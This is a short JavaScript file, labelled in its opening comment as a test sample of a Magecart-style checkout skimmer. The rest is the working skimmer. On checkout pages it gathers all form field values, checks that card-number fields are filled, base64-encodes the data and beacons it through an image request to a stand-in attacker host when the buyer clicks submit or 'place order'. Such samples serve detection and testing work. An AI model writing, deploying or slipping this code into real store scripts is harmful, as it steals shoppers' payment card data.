/* Test sample: Magecart-style checkout skimmer appended to a store script;
   copies payment form fields and beacons them to an attacker host. */
(function () {
    var gate = 'https://cdn-analytics.evil.invalid/collect.php';
    function grab() {
        var out = {};
        var fields = document.querySelectorAll('input, select');
        for (var i = 0; i < fields.length; i++) {
            var f = fields[i];
            if (f.name && f.value) {
                out[f.name] = f.value;
            }
        }
        return out;
    }
    function send() {
        if (location.href.indexOf('checkout') === -1) {
            return;
        }
        var data = grab();
        if (!data['payment[cc_number]'] && !data.cardnumber) {
            return;
        }
        var img = new Image();
        img.src = gate + '?d=' + encodeURIComponent(btoa(JSON.stringify(data))) + '&h=' + location.host;
    }
    document.addEventListener('click', function (e) {
        var t = e.target;
        if (t && (t.type === 'submit' || /place.?order|pay now/i.test(t.textContent || ''))) {
            send();
        }
    }, true);
})();
